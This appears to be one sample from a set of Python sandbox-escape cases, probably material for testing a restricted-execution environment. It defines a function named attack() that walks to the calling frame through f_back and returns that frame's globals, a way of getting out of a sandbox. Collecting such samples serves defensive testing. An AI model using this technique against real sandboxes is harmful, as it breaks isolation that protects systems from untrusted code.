# escape: frame walk via f_back | source: frame-walking escapes (sys._getframe alternatives)
@export
def attack():
    f = ctx.f_back
    return f.f_globals
